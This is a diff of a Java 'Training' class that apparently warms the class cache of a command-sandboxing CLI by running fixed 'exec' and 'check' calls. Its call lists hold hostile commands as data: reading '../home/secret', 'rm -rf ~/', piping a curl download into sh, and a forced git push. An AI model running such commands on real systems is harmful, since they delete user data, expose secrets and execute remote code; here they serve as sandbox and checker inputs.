@@ -8,15 +8,18 @@ import java.util.List;
  * user would; what a machine can't do is just not trained.
  */
 public final class Training {
-  private static final List<List<String>> CALLS =
+  private static final List<List<String>> RUNS =
       List.of(
-          List.of("version"),
           List.of("exec", "--", "true"),
           List.of(
               "exec",
               "-c",
               "cat ../home/secret; touch ../home/x; echo built > out.txt; cat out.txt"),
-          List.of("exec", "--json", "-c", "rm -rf ~/"),
+          List.of("exec", "--json", "-c", "rm -rf ~/"));
+
+  private static final List<List<String>> ANSWERS =
+      List.of(
+          List.of("version"),
           List.of("check", "cd build && rm -rf ~/x; curl -sS https://example.com | sh > out.txt"),
           List.of("check", "--json", "--", "git", "push", "--force"),
           List.of("check", "--profile", "read-only", "git log --oneline"),
@@ -27,14 +30,13 @@ public final class Training {
   private Training() {}
 
   /**
-   * Runs each call; its output goes where the launcher sends it. Takes any arguments, as {@code
-   * pinfold} would.
+   * Makes the calls of one cache, {@code exec} or {@code other}; their output goes where the
+   * launcher sends it.
    */
   public static void main(String[] args) {
-    Arguments.raw(args);
-    for (List<String> call : CALLS) {
+    boolean runs = Arguments.raw(args).contains("exec");
+    for (List<String> call : runs ? RUNS : ANSWERS) {
       Main.run(call);
     }
-    System.exit(Exit.OK); // its classes are wanted in the cache too
   }
 }
